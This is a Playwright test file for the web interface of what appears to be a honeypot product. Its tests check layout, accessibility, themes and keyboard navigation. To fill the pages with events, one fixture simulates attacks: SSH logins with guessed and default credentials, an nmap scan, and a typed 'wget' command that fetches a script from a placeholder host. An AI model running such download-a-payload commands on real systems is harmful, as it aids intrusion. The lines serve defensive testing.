import { mkdirSync } from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { accessible } from '../support/accessible';
import { Shell, nmap, sshLogin } from '../support/attacks';
import { expect, live, logIn, rows, test } from '../support/fixtures';
import type { Skep } from '../support/skep';

const widths = [360, 1280, 2560];
const looks = (['en-US', 'de-DE'] as const).flatMap((locale) =>
  (['light', 'dark'] as const).map((colorScheme) => ({ locale, colorScheme })),
);
const shots = path.resolve(__dirname, '../shots');

/** A server with something on every page; gives the paths by name. */
async function furnished(skep: Skep, page: Page): Promise<Record<string, string>> {
  await skep.startSensor();
  await sshLogin(skep.ports.ssh, 'admin', 'a-guess-\u{202e}-with-a-turn');
  const shell = await Shell.ssh(skep.ports.ssh, 'root', 'root');
  await shell.type('wget http://203.0.113.7/a/rather/long/path/that/does/not/fit/on/a/small/screen/at/all/x.sh');
  await shell.leave();
  await nmap(skep.ports.catchAll);
  await logIn(page, skep);
  await page.goto(`${skep.url}/events`);
  await expect(rows(page)).toHaveCount(3);
  const id = await rows(page, 'root / root').getAttribute('data-event');
  await page.goto(`${skep.url}/sensors`);
  const sensor = await page.getByRole('link', { name: 'local' }).getAttribute('href');
  const admin = ['quarantine', 'users', 'tokens', 'audit', 'system', 'api', 'profile', 'password'];
  return {
    dashboard: '/',
    events: '/events',
    event: `/events/${id}`,
    pane: `/events?open=${id}`,
    archive: '/events?dataset=archive',
    sensors: '/sensors',
    sensor: sensor ?? '',
    matrix: '/sensors/matrix',
    services: '/services',
    ...Object.fromEntries(admin.map((name) => [name, `/${name}`])),
  };
}

async function fits(page: Page): Promise<void> {
  const beyond = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  // A new size takes a moment to be laid out.
  await expect.poll(beyond, `${page.url()} scrolls sideways`).toBeLessThanOrEqual(0);
}

async function look(page: Page, name: string, locale: string, colorScheme: string): Promise<void> {
  mkdirSync(shots, { recursive: true });
  for (const width of widths) {
    await page.setViewportSize({ width, height: 900 });
    await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
    await expect(page.locator('html')).toHaveAttribute('lang', locale.slice(0, 2));
    await fits(page);
    await accessible(page);
    await page.screenshot({ path: path.join(shots, `${name}-${locale.slice(0, 2)}-${colorScheme}-${width}.png`) });
  }
}

for (const { locale, colorScheme } of looks) {
  test(`every page at every width, ${locale}, ${colorScheme}`, async ({ skep, page, browser }) => {
    test.setTimeout(600_000);
    const paths = await furnished(skep, page);
    const storageState = await page.context().storageState();
    const context = await browser.newContext({ locale, colorScheme, storageState });
    const visitor = await context.newPage();
    for (const [name, path] of Object.entries(paths)) {
      await visitor.goto(`${skep.url}${path}`);
      await look(visitor, name, locale, colorScheme);
    }
    await context.clearCookies();
    await visitor.goto(`${skep.url}/login`);
    await look(visitor, 'login', locale, colorScheme);
    await context.close();
  });
}

test('the dialog for a new sensor', async ({ skep, page }) => {
  await logIn(page, skep);
  await page.getByRole('link', { name: 'Sensors' }).first().click();
  await live(page);
  const add = page.getByRole('button', { name: 'Add sensor' }).first();
  for (const width of widths) {
    await page.setViewportSize({ width, height: 900 });
    await add.click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await fits(page);
    await accessible(page);
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
  }
  await expect(add, 'focus returns to where it was').toBeFocused();
});

test('the keyboard reaches the content at once', async ({ skep, page }) => {
  await logIn(page, skep);
  for (const path of ['/', '/events', '/sensors']) {
    await page.goto(`${skep.url}${path}`);
    await live(page);
    await page.keyboard.press('Tab');
    const skip = page.locator(':focus');
    await expect(skip).toHaveAttribute('href', /^#/);
    await expect(skip).toBeInViewport();
    const target = (await skip.getAttribute('href')) ?? '';
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(new RegExp(`${target}$`));
    await expect(page.locator(target)).toBeVisible();
  }
});

test('the theme can be switched, and stays', async ({ skep, page }) => {
  await logIn(page, skep);
  await live(page);
  const scheme = () => page.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const before = await ground();
  await page.getByRole('button', { name: 'Theme' }).click();
  if ((await ground()) === before) await page.getByRole('button', { name: 'Theme' }).click();
  await expect.poll(ground).not.toBe(before);
  const chosen = await scheme();
  await page.reload();
  await expect.poll(scheme).toBe(chosen);
});

test.describe('before the set-up', () => {
  test.use({ unattended: false });

  test('the set-up page', async ({ skep, browser }) => {
    for (const { locale, colorScheme } of looks) {
      const context = await browser.newContext({ locale, colorScheme });
      const visitor = await context.newPage();
      await visitor.goto(skep.url);
      await look(visitor, 'setup', locale, colorScheme);
      await context.close();
    }
  });
});
